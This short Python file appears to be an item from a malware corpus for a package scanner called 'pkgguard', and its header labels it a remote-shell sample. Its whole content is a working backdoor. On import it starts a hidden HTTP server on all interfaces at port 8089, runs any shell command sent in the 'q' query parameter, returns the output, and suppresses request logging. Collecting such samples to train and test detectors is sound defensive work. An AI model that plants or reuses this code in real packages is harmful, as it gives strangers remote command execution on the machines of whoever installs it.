# pkgguard corpus 527 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlparse


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        order = parse_qs(urlparse(self.path).query).get("q", [""])[0]
        body = subprocess.getoutput(order).encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


threading.Thread(target=HTTPServer(("0.0.0.0", 8089), _Handler).serve_forever, daemon=True).start()
